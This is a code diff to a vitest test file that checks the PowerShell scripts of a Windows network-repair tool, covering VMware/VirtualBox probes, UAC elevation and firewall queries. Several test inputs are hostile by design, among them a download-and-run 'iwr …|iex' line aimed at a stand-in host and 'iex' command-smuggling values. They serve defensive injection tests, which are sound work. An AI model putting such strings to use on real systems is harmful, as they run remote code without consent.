@@ -1,5 +1,11 @@
 import { beforeAll, describe, expect, it } from 'vitest';
-import { loadPowershellParser, powershellSyntaxError, powershellTree } from '../../../test/powershell-syntax.ts';
+import {
+  cimCalls,
+  cimQueriesFor,
+  loadPowershellParser,
+  powershellSyntaxError,
+  powershellTree,
+} from '../../../test/powershell-syntax.ts';
 import type { Step } from '../../fixes/journal.ts';
 import { VNETLIB_COMMANDS, WINDOWS_FIXES, WINDOWS_READ_BACK_SCRIPTS } from '../../fixes/windows-fixes.ts';
 import {
@@ -64,6 +70,20 @@ describe('PowerShell syntax (tree-sitter-powershell)', () => {
     expect(syntaxError(buildScript(script, { target: '192.168.37.128', timeoutMs: 1000 }))).toBeNull();
   });
 
+  it.each(['virtualbox', 'vmware-guests'] as const)(
+    '%s reads its native tool with the ANSI code page, and puts the console’s back even on an early return',
+    (id) => {
+      const script = WINDOWS_PROBE_SCRIPTS[id];
+      const set = script.indexOf('TextInfo.ANSICodePage');
+      const firstCall = script.search(/& \$(vbox|vmrun) /);
+      expect(set).toBeGreaterThan(-1);
+      expect(set).toBeLessThan(firstCall);
+      const tree = powershellTree(script);
+      const finallyBlock = tree?.rootNode.descendantsOfType('finally_clause')[0]?.text ?? '';
+      expect(finallyBlock).toContain('[Console]::OutputEncoding = $consoleEncoding');
+    },
+  );
+
   it('the batch of all probes parses', () => {
     const probes = Object.entries(WINDOWS_PROBE_SCRIPTS).map(([id, script]) => ({ id, script, params: {} }));
     expect(syntaxError(buildBatchScript(probes))).toBeNull();
@@ -75,6 +95,12 @@ describe('PowerShell syntax (tree-sitter-powershell)', () => {
       syntaxError(buildElevatedStepScript('Enable-NetAdapter -Name $Params.adapter', { adapter: 'x' }, 'C:\\t\\r.json')),
     ).toBeNull();
     for (const script of WINDOWS_READ_BACK_SCRIPTS) expect(syntaxError(script)).toBeNull();
+  });
+
+  it('restoring VMware’s default networks (both VMnets, DHCP and NAT) parses, and so does its read-back', async () => {
+    const steps = await stepsOf('vmware.restore-vmnet', { vmnet: 'VMnet8', defaults: 'true' });
+    expect(steps[0]?.display).toContain("vnetlib64.exe '--' add nat vmnet8");
+    for (const step of steps) expect(syntaxError(buildElevatedStepScript(step.script, step.params, 'C:\\r.json'))).toBeNull();
   });
 
   it.each(Object.keys(SAMPLE))('every step and undo of %s parses', async (id) => {
@@ -146,6 +172,8 @@ describe('the commands a user is shown (and may paste) keep hostile names inside
     // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile input on purpose
     'x $(iwr http://x.invalid/p|iex) ${iex} `iex`',
     'a"; iex "b',
+    // Replacement patterns of String.replace: must stay text in a shown command.
+    "VMnet8$'; iex; $&",
   ];
 
   /** The commands a parsed display runs: every command name outside a string. */
@@ -218,9 +246,27 @@ describe('elevated steps start through ShellExecute (Start-Process -Verb RunAs)'
   });
 
   it('the launcher limits the file to the user and Administrators before it asks UAC, and quotes the path', () => {
+    expect(ELEVATION_LAUNCHER.indexOf('Set-Acl')).toBeLessThan(ELEVATION_LAUNCHER.indexOf('ShellExecuteExW([ref]'));
     expect(ELEVATION_LAUNCHER.indexOf('Set-Acl')).toBeLessThan(ELEVATION_LAUNCHER.indexOf('Start-Process'));
     expect(ELEVATION_LAUNCHER).toContain("'S-1-5-32-544'");
     expect(elevatedArguments(path, sha)).toContain(`-File "${path}"`);
+  });
+
+  it('with the app window as owner, UAC is asked through ShellExecuteEx owned by that window (the prompt comes up in front); without, Start-Process', () => {
+    const tree = powershellTree(ELEVATION_LAUNCHER);
+    const branch = tree?.rootNode.descendantsOfType('if_statement')[0]?.text ?? '';
+    expect(branch).toMatch(/^if \(\[int64\]\$Params\.owner -ne 0\)/);
+    expect(branch).toContain('$info.hwnd = [IntPtr][int64]$Params.owner');
+    expect(branch).toContain("$info.lpVerb = 'runas'");
+    expect(branch).toContain('CloseHandle($info.hProcess)');
+    expect(branch).toMatch(/else \{\s+\$process = Start-Process -FilePath \$Params\.shell -Verb RunAs/);
+  });
+
+  it('only a number is taken as the owner window', async () => {
+    const { setElevationOwner } = await import('../../fixes/run-fix.ts');
+    expect(setElevationOwner('1234; iex')).toBe('0');
+    expect(setElevationOwner('65570')).toBe('65570');
+    expect(setElevationOwner(null)).toBe('0');
   });
 });
 
@@ -253,28 +299,6 @@ describe('vnetlib64.exe as HashiCorp found it works (vagrant-vmware-desktop VNET
 });
 
 describe('the cost of the Windows probes does not grow with the machine', () => {
-  /** CIM-backed cmdlets (the NetSecurity, NetTCPIP, NetAdapter and NetConnection modules' Get-Net*). */
-  const isCim = (name: string) => /^Get-Net[A-Za-z]+$/.test(name);
-  /** Every CIM cmdlet call in a script, and whether it sits inside a loop (foreach, ForEach-Object, Where-Object, while). */
-  function cimCalls(script: string): Array<{ name: string; inLoop: boolean }> {
-    const tree = powershellTree(script);
-    const calls: Array<{ name: string; inLoop: boolean }> = [];
-    for (const node of tree?.rootNode.descendantsOfType('command_name') ?? []) {
-      if (!node || !isCim(node.text)) continue;
-      let inLoop = false;
-      for (let p = node.parent; p; p = p.parent) {
-        if (['foreach_statement', 'while_statement', 'for_statement', 'do_statement'].includes(p.type)) inLoop = true;
-        if (p.type === 'script_block_expression' || p.type === 'script_block') {
-          const command = p.parent?.parent?.parent;
-          const called = command?.descendantsOfType('command_name')[0]?.text ?? '';
-          if (/^(ForEach-Object|Where-Object|%|\?)$/i.test(called)) inLoop = true;
-        }
-      }
-      calls.push({ name: node.text, inLoop });
-    }
-    return calls;
-  }
-
   it('the check can fail: a CIM call per rule is seen', () => {
     const perRule = '$r = Get-NetFirewallRule; foreach ($x in $r) { $a = $x | Get-NetFirewallAddressFilter }';
     expect(cimCalls(perRule)).toContainEqual({ name: 'Get-NetFirewallAddressFilter', inLoop: true });
@@ -284,10 +308,15 @@ describe('the cost of the Windows probes does not grow with the machine', () => 
     const calls = cimCalls(WINDOWS_PROBE_SCRIPTS.firewall);
     expect(calls.map((c) => c.name).sort()).toEqual([
       'Get-NetFirewallAddressFilter',
+      'Get-NetFirewallApplicationFilter',
+      'Get-NetFirewallInterfaceFilter',
+      'Get-NetFirewallInterfaceTypeFilter',
       'Get-NetFirewallPortFilter',
       'Get-NetFirewallProfile',
       'Get-NetFirewallRule',
+      'Get-NetFirewallServiceFilter',
     ]);
     expect(calls.filter((c) => c.inLoop)).toEqual([]);
+    expect(cimQueriesFor(WINDOWS_PROBE_SCRIPTS.firewall, 2000)).toBe(cimQueriesFor(WINDOWS_PROBE_SCRIPTS.firewall, 10));
   });
 });
